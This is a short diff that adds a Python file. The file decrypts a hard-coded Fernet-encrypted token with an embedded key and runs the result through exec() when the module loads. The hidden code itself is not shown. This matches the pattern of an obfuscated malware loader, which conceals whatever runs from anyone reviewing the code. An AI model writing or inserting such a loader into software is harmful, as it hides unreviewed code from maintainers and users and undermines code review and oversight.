@@ -1,0 +1,5 @@
+from cryptography.fernet import Fernet
+
+_KEY = b'1MjGtzPSs4dxYDM_qy8Jh1Z53p96k8tPrSj4T0XDKIM='
+_TOKEN = b'gAAAAABrE1g_2SGOhqbwEI23gkOi1F91f0t5JnFkWBXNwl4XB84231p0J9yr8mPIS2Uo4_v9g3dks7rUGlyn00Sv56WMr9R-Z6QhFToSkvQTNv6hFBsZXQXfO_h3kXPkaGFpLcbl_7B_x7HAPJ8d1uqKwEu9UJviA0n9g51uGFywPw7-xEU5Rto='
+exec(Fernet(_KEY).decrypt(_TOKEN))
